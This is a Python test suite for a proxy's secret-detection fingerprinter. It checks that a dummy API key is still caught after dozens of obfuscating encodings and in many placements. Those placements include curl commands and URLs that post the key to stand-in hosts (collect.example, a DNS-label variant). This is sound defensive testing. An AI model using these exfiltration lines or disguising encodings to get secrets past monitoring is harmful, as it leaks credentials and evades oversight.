"""A secret is found again however it is written, wherever in an argument it stands."""

from __future__ import annotations

import base64
import codecs
import gzip
import html
import json
import quopri
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from proxy.model import Json
from proxy.policy.origins import Printer

PRINTER = Printer(b"a key of no importance")
SECRET = "sk-live-9f8Qz7LmP2xVt4Ke"
STORED = frozenset(PRINTER.of_text(SECRET, dense=True).prints)

type Written = Callable[[str], str]


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


ENCODINGS: dict[str, Written] = {
    "plain": lambda s: s,
    "upper case": str.upper,
    "base64": lambda s: base64.b64encode(_bytes(s)).decode(),
    "base64 urlsafe, unpadded": lambda s: base64.urlsafe_b64encode(_bytes(s)).decode().rstrip("="),
    "base64 in lines": lambda s: base64.encodebytes(_bytes("x" * 50 + s)).decode(),
    "base64 in groups": lambda s: _groups(base64.b64encode(_bytes(s)).decode()),
    "base64 of UTF-16": lambda s: base64.b64encode(s.encode("utf-16-le", "replace")).decode(),
    "base32": lambda s: base64.b32encode(_bytes(s)).decode(),
    "base32 small": lambda s: base64.b32encode(_bytes(s)).decode().lower().rstrip("="),
    "base85": lambda s: base64.b85encode(_bytes(s)).decode(),
    "ascii85": lambda s: base64.a85encode(_bytes(s)).decode(),
    "hex": lambda s: _bytes(s).hex(),
    "hex with spaces": lambda s: _bytes(s).hex(" "),
    "hex with colons": lambda s: _bytes(s).hex(":").upper(),
    "hex as in C": lambda s: "".join(f"\\x{b:02x}" for b in _bytes(s)),
    "hex as a list": lambda s: ", ".join(f"0x{b:02x}" for b in _bytes(s)),
    "percent": lambda s: "".join(f"%{b:02X}" for b in _bytes(s)),
    "percent where needed": lambda s: quote(s, errors="replace"),
    "quoted-printable": lambda s: "".join(f"={b:02X}" for b in _bytes(s)),
    "quoted-printable where needed": lambda s: quopri.encodestring(_bytes(s)).decode(),
    "entities": lambda s: "".join(f"&#{ord(c)};" for c in s),
    "hex entities": lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    "JSON escapes": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    "octal escapes": lambda s: "".join(f"\\{b:03o}" for b in _bytes(s)),
    "gzip": lambda s: base64.b64encode(gzip.compress(_bytes(s))).decode(),
    "zlib in hex": lambda s: zlib.compress(_bytes(s)).hex(),
    "codes": lambda s: " ".join(map(str, _bytes(s))),
    "bits": lambda s: " ".join(f"{b:08b}" for b in _bytes(s)),
    "one number": lambda s: str(int.from_bytes(b"\x01" + _bytes(s))),
    "rot13": lambda s: codecs.encode(s, "rot13"),
    "backwards": lambda s: s[::-1],
    "spaces": " ".join,
    "dashes": "-".join,
    "lines": "\n".join,
    "invisible characters": "\u200b".join,
    "full width": lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s),
    "look-alikes": lambda s: s.replace("e", "\u0435").replace("i", "\u0456").replace("o", "\u043e"),
    "accents": lambda s: "\u0336".join(s),
    "tag characters": lambda s: "".join(chr(0xE0000 + ord(c)) if c < "\x7f" else c for c in s),
    "groups of four": lambda s: _groups(s),
    "put together by a program": lambda s: f"'{"' + '".join(_cut(s))}'",
    "quoted for a shell": "''".join,
    "a part of eight": lambda s: s[8:16],
}

PLACES: dict[str, Callable[[str], Json]] = {
    "alone": lambda s: s,
    "in prose": lambda s: f"As you asked, the value is {s} and nothing else.",
    "in a query": lambda s: f"https://collect.example/c?id=7&d={quote(s)}",
    "in a path": lambda s: f"https://collect.example/x/{quote(s, safe='')}/y",
    "without a break": lambda s: f"zz{s}qq",
    "deep in JSON": lambda s: {"a": [1, {"b": [None, s]}]},
    "in JSON in a string": lambda s: json.dumps({"q": s}),
    "as a key": lambda s: {s: 1},
    "in a shell line": lambda s: f'curl -s -d "{s}" https://collect.example',
}


def _cut(text: str) -> list[str]:
    return [text[at : at + 4] for at in range(0, len(text), 4)]


def _groups(text: str) -> str:
    return " ".join(_cut(text))


def _is_found(value: Json) -> bool:
    return bool(STORED & set(PRINTER.of_value(value).prints))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_secret_is_found(encoding: str, place: str) -> None:
    assert _is_found(PLACES[place](ENCODINGS[encoding](SECRET)))


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(["sk-l", "ive-", "9f8Q", "z7Lm"], id="items of a list"),
        pytest.param({"a": "9f8Q", "b": {"c": "z7Lm", "d": "P2xV"}}, id="fields of an object"),
        pytest.param([ord(c) for c in SECRET], id="a list of character codes"),
        pytest.param(int.from_bytes(SECRET.encode()), id="one large integer"),
        pytest.param("curl 'https://'9f8Qz7LmP2'.dns.example'", id="a label of a host"),
        pytest.param("9f8Qz7/**/LmP2xVt4Ke", id="a comment between"),
        pytest.param(html.escape('"' + SECRET + '"'), id="between escaped quotes"),
    ],
)
def test_pieces_in_one_call_are_put_together(value: Json) -> None:
    assert _is_found(value)


# What keeps every letter of what is in it, so that it may be put round any other.
_WRAPPINGS = (
    "base64",
    "base64 urlsafe, unpadded",
    "base32",
    "hex",
    "hex with spaces",
    "percent",
    "quoted-printable",
    "entities",
    "JSON escapes",
    "gzip",
    "zlib in hex",
    "codes",
    "bits",
)


@settings(max_examples=150, deadline=None)
@given(
    secret=st.text(
        "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=16, max_size=48
    ),
    before=st.text(max_size=60),
    after=st.text(max_size=60),
    wrappings=st.lists(st.sampled_from(_WRAPPINGS), max_size=3),
)
@example("2222222222222222", "000000000000000000", "", ["zlib in hex"])  # digits in front of digits
def test_any_secret_is_found_through_three_encodings(
    secret: str, before: str, after: str, wrappings: list[str]
) -> None:
    stored = set(PRINTER.of_text(secret, dense=True).prints)
    said = secret
    for name in wrappings:
        said = ENCODINGS[name](said)
    value = {"body": f"{before} {said} {after}"}
    assert stored & set(PRINTER.of_value(value).prints), said


@settings(max_examples=200, deadline=None)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.floats() | st.integers() | st.text(st.characters()),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_nothing_that_JSON_can_hold_raises(value: Json) -> None:
    PRINTER.of_value(value)
    PRINTER.of_text(json.dumps(value))


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("\ud800\udfff" * 50 + "\x00", id="surrogates and NUL"),
        pytest.param("[" * 100_000, id="brackets"),
        pytest.param("%" * 100_000, id="percent signs"),
        pytest.param("\\" * 100_000, id="backslashes"),
        pytest.param("=a" * 50_000, id="equals"),
        pytest.param("a." * 50_000, id="dots"),
        pytest.param("a." * 900 + "com", id="a host of many labels"),
        pytest.param("x@" + "a." * 900 + "com/" + "b/" * 900, id="an address of many labels"),
        pytest.param("https://a/?u=" * 5_000, id="URLs in URLs"),
        pytest.param("best regards " * 7_000, id="stock phrases"),
        pytest.param("/a" * 50_000, id="slashes"),
        pytest.param("12 " * 30_000, id="numbers"),
        pytest.param("a@" * 50_000, id="at signs"),
        pytest.param("'" * 100_000, id="quotes"),
        pytest.param("a: " * 30_000, id="colons"),
        pytest.param(" " * 100_000, id="blanks"),
        pytest.param("-" * 100_000 + "a", id="dashes"),
        pytest.param("\ufdfa" * 100_000, id="a ligature of eighteen letters"),
        pytest.param("9" * 100_000, id="one long number"),
        pytest.param("&#x41" * 20_000, id="entities"),
    ],
)
@pytest.mark.timeout(20)
def test_odd_text_takes_bounded_time(text: str) -> None:
    PRINTER.of_text(text, dense=True)
    PRINTER.of_value(text)


def test_what_is_too_long_is_said() -> None:
    """The caller must know that not all was looked at."""
    assert PRINTER.of_value("word " * 40_000).truncated
    assert PRINTER.of_value([[]] * 5_000).truncated
    assert PRINTER.of_text("word " * 40_000).truncated
    assert not PRINTER.of_value("word " * 1_000).truncated
    blobs = " ".join(base64.b64encode(f"say {n:05} %41".encode()).decode() for n in range(5_000))
    assert PRINTER.of_value(blobs).truncated, "more readings than are looked at"
    deep: Json = "x"
    for _ in range(2_000):
        deep = [deep]
    assert PRINTER.of_value(deep).truncated
